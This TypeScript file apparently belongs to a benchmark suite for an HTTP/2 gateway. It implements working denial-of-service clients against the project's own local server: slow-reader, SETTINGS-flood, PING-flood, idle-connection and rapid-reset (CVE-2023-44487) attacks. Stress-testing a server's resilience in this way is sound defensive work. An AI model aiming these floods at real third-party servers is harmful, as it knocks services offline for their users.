/**
 * Hostile HTTP/2 clients, shared by bench:hostile-http2 (fedgate's HTTP/2 server role alone) and
 * bench:hostile (whole gateways): each attack opens connections through `connect` (plain TCP for
 * h2c, TLS with some certificate for the inbound listener) until `until`, reconnecting when cut
 * off, and returns how many connections it opened.
 */
import { connect as netConnect, type Socket } from 'node:net';
import { CLIENT_PREFACE, Flag, frame, FRAME_HEADER_BYTES, FrameType, Setting, settingsFrame } from '../../src/http2/frames.js';
import { HpackEncoder } from '../../src/http2/hpack.js';

export type Connector = () => Promise<Socket>;

/** A plain TCP connection to 127.0.0.1:port (h2c prior knowledge). */
export function tcp(port: number): Connector {
  return () =>
    new Promise((resolve, reject) => {
      const socket = netConnect({ host: '127.0.0.1', port, noDelay: true }, () => resolve(socket));
      socket.once('error', reject);
    });
}

function rawFrame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const buf = frame(type, flags, streamId, payload.length);
  payload.copy(buf, FRAME_HEADER_BYTES);
  return buf;
}

function windowUpdate(streamId: number, increment: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(increment, 0);
  return rawFrame(FrameType.WINDOW_UPDATE, 0, streamId, payload);
}

/**
 * Writes and waits for room; false once the connection is gone. Always a turn of the event loop
 * at least: a socket whose kernel buffer takes everything would otherwise let one flood loop
 * starve every other attack in the process.
 */
function send(socket: Socket, data: Buffer): Promise<boolean> {
  if (socket.destroyed || !socket.writable) return Promise.resolve(false);
  if (socket.write(data)) return new Promise((resolve) => setImmediate(() => resolve(!socket.destroyed)));
  return new Promise((resolve) => {
    const done = (ok: boolean): void => {
      socket.off('drain', onDrain);
      socket.off('close', onClose);
      resolve(ok);
    };
    const onDrain = (): void => done(true);
    const onClose = (): void => done(false);
    socket.once('drain', onDrain);
    socket.once('close', onClose);
  });
}

const GET = (path: string, authority = 'bench.test'): string[] => [':method', 'GET', ':scheme', 'http', ':authority', authority, ':path', path];
const turn = (): Promise<void> => new Promise((resolve) => setImmediate(resolve));

export type Attack = (connect: Connector, until: number, authority?: string) => Promise<number>;

/** Large windows, a request for a large body, then the socket is never read; reconnects when cut off. */
export const slowReader: Attack = async (connect, until, authority) => {
  let connections = 0;
  while (Date.now() < until) {
    const socket = await connect();
    connections += 1;
    socket.on('error', () => undefined);
    const encoder = new HpackEncoder();
    socket.pause();
    socket.write(Buffer.concat([CLIENT_PREFACE, settingsFrame([[Setting.INITIAL_WINDOW_SIZE, 2 ** 31 - 1]]), windowUpdate(0, 2 ** 31 - 1 - 65_535)]));
    for (let id = 1; id <= 9; id += 2) socket.write(rawFrame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, id, encoder.encode(GET('/big', authority))));
    // Then small GETs, as many as it is allowed, never reading an answer.
    let id = 11;
    const repeat = encoder.encode(GET('/', authority));
    while (Date.now() < until && !socket.destroyed) {
      const batch = Buffer.concat(Array.from({ length: 50 }, () => rawFrame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, (id += 2), repeat)));
      if (!(await send(socket, batch))) break;
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    socket.destroy();
  }
  return connections;
};

/** SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE entries, then floods of 32-entry ones. */
export const settingsFlood: Attack = async (connect, until, authority) => {
  const huge = settingsFrame(Array.from({ length: 2730 }, (_, i) => [Setting.INITIAL_WINDOW_SIZE, i & 1] as const));
  const small = Buffer.concat(Array.from({ length: 200 }, () => settingsFrame(Array.from({ length: 32 }, () => [Setting.INITIAL_WINDOW_SIZE, 0] as const))));
  let connections = 0;
  while (Date.now() < until) {
    const socket = await connect();
    connections += 1;
    socket.on('error', () => undefined);
    socket.resume();
    const encoder = new HpackEncoder();
    socket.write(Buffer.concat([CLIENT_PREFACE, settingsFrame([[Setting.INITIAL_WINDOW_SIZE, 0]])]));
    for (let id = 1; id < 400; id += 2) socket.write(rawFrame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, id, encoder.encode(GET('/', authority))));
    await send(socket, connections % 2 === 0 ? huge : small);
    while (Date.now() < until && !socket.destroyed) if (!(await send(socket, small))) break;
    socket.destroy();
    await turn();
  }
  return connections;
};

/** HEADERS then RST_STREAM, as fast as the socket takes them (CVE-2023-44487). */
export const rapidReset: Attack = async (connect, until, authority) => {
  let connections = 0;
  while (Date.now() < until) {
    const socket = await connect();
    connections += 1;
    socket.on('error', () => undefined);
    socket.resume();
    const encoder = new HpackEncoder();
    socket.write(Buffer.concat([CLIENT_PREFACE, settingsFrame([])]));
    const rst = Buffer.alloc(4);
    rst.writeUInt32BE(8, 0);
    let id = 1;
    while (Date.now() < until && !socket.destroyed) {
      const frames: Buffer[] = [];
      for (let i = 0; i < 100; i++, id += 2) frames.push(rawFrame(FrameType.HEADERS, Flag.END_HEADERS, id, encoder.encode(GET('/reset', authority))), rawFrame(FrameType.RST_STREAM, 0, id, rst));
      if (!(await send(socket, Buffer.concat(frames)))) break;
    }
    socket.destroy();
    await turn();
  }
  return connections;
};

/** PINGs, never reading the answers. */
export const pingFlood: Attack = async (connect, until) => {
  const pings = Buffer.concat(Array.from({ length: 1000 }, () => rawFrame(FrameType.PING, 0, 0, Buffer.alloc(8, 7))));
  let connections = 0;
  while (Date.now() < until) {
    const socket = await connect();
    connections += 1;
    socket.on('error', () => undefined);
    socket.pause();
    socket.write(Buffer.concat([CLIENT_PREFACE, settingsFrame([])]));
    while (Date.now() < until && !socket.destroyed) if (!(await send(socket, pings))) break;
    socket.destroy();
    await turn();
  }
  return connections;
};

/** Connections that send the preface and nothing else. */
export const idle: Attack = async (connect, until) => {
  const sockets: Socket[] = [];
  for (let i = 0; i < 500 && Date.now() < until; i++) {
    const socket = await connect();
    socket.on('error', () => undefined);
    socket.write(Buffer.concat([CLIENT_PREFACE, settingsFrame([])]));
    sockets.push(socket);
  }
  await new Promise((resolve) => setTimeout(resolve, Math.max(0, until - Date.now())));
  for (const socket of sockets) socket.destroy();
  return sockets.length;
};

